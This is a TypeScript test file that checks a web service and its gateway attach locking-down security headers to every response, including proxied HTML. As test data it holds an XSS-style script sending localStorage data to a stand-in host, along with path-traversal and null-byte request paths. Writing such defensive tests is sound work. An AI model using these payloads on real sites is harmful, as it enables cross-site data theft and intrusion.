import { beforeAll, afterAll, describe, expect, test } from 'vitest'
import { createApp } from '#service/node/app.ts'
import { goneUpstream, upstream } from '#service/testing/test-gateway.ts'
import { openTestService, testConfiguration } from '#service/testing/test-service.ts'
import type { TestService } from '#service/testing/test-accounts.ts'
import { testStores } from '#service/testing/test-stores.ts'

// Opening a store takes seconds on a busy machine.
const LIST = '/api/kubernetes_operators'
const PAGE = '<!doctype html><script>fetch("//elsewhere.example/?" + localStorage.key)</script>'

/** The headers that keep a browser from running or storing any part of an answer. */
const expectClosed = ({ headers }: Response) => {
  expect(headers.get('content-security-policy')).toBe(
    "default-src 'none'; sandbox; frame-ancestors 'none'",
  )
  expect(headers.get('x-content-type-options')).toBe('nosniff')
  expect(headers.get('cache-control')).toBe('no-store')
  expect(headers.get('referrer-policy')).toBe('no-referrer')
  // By the HTML standard an answer with both this and a sandbox is not shown.
  expect(headers.has('cross-origin-opener-policy')).toBe(false)
}

// One store proves as much as all, and the last one is the fastest.
describe.each(testStores.slice(-1))('every answer of the embedded service', (testStore) => {
  let service: TestService
  let authorized: Record<string, string> = {}
  beforeAll(async () => {
    service = await openTestService(testStore)
    const { key } = await service.account()
    authorized = { Authorization: `Bearer ${key}`, 'Service-Version': '2' }
  })
  afterAll(() => service.close())

  const ask = (path: string, init: RequestInit = {}) =>
    service.app.request(`http://adit.test${path}`, { headers: authorized, ...init })

  test.each([
    ['GET', LIST, 200],
    ['HEAD', LIST, 200],
    ['GET', '/api/openapi.json', 200],
    ['GET', '/account/edges', 200],
    ['OPTIONS', '/account/edges', 204],
    ['GET', '/account/edges?limit=x', 400],
    ['GET', '/account/%65dges', 404],
    ['PUT', '/account/edges', 405],
    ['OPTIONS', LIST, 204],
    ['GET', `${LIST}?limit=x`, 400],
    ['GET', `${LIST}/%zz`, 400],
    ['GET', `${LIST}/..%2f..%2fadmin`, 400],
    ['GET', `${LIST}/k8sop_none`, 404],
    ['GET', '/api', 404],
    ['GET', '/api/', 404],
    ['GET', '/api/%zz', 404],
    ['GET', '/ap%69/kubernetes_operators', 404],
    ['DELETE', '/%61pi/kubernetes_operators/x', 404],
    ['PUT', LIST, 405],
    ['POST', LIST, 415],
  ])('has a policy that runs nothing: %s %s is %i', async (method, path, status) => {
    const answer = await ask(path, { method })
    expect(answer.status).toBe(status)
    expectClosed(answer)
  })

  test.each([
    { kind: 'html' },
    { kind: 'html', status: 404 },
    { kind: 'status', status: 500 },
    { kind: 'members', members: { a: 1 } },
  ])('has it when it was made to fail: %o', async (fault) => {
    await service.app.request('http://adit.test/faults', {
      method: 'POST',
      headers: { ...authorized, 'Content-Type': 'application/json' },
      body: JSON.stringify(fault),
    })
    const answer = await ask(LIST)
    expect(answer.status).toBe(fault.kind === 'members' ? 200 : (fault.status ?? 502))
    expectClosed(answer)
  })
})

describe('every answer of a gateway', () => {
  const askThrough = (upstreamUrl: string, method = 'GET', path = LIST) =>
    createApp({
      configuration: { ...testConfiguration, faults: false, upstreamUrl },
      logger: null,
    }).request(`http://adit.test${path}`, { method })

  test.each([
    ['application/json', 'application/json'],
    ['text/html', 'text/plain; charset=utf-8'],
    ['image/svg+xml', 'text/plain; charset=utf-8'],
  ])('has a policy of its own, whatever the remote service says in %s', async (type, passed) => {
    const { url } = await upstream((response) => {
      response.writeHead(200, {
        'Content-Type': type,
        'Content-Security-Policy': "default-src * 'unsafe-inline'",
        'X-Content-Type-Options': 'none',
        'Cache-Control': 'public, max-age=600',
        'Cross-Origin-Opener-Policy': 'same-origin',
      })
      response.end(PAGE)
    })
    const answer = await askThrough(url)
    expect(await answer.text()).toBe(PAGE)
    expect(answer.headers.get('content-type')).toBe(passed)
    expectClosed(answer)
  })

  test('has it where there is no answer to pass on', async () => {
    const gone = await goneUpstream()
    const { url } = await upstream((response) => response.writeHead(302, { Location: '/' }).end())
    for (const [answer, status] of [
      [await askThrough(gone), 502],
      [await askThrough(url), 502],
      [await askThrough(gone, 'GET', '/api/none'), 404],
      [await askThrough(gone, 'GET', '/ap%69/kubernetes_operators'), 404],
      [await askThrough(gone, 'PUT'), 405],
      [await askThrough(gone, 'GET', `${LIST}/%00`), 400],
    ] as const) {
      expect(answer.status).toBe(status)
      expectClosed(answer)
    }
  })
})
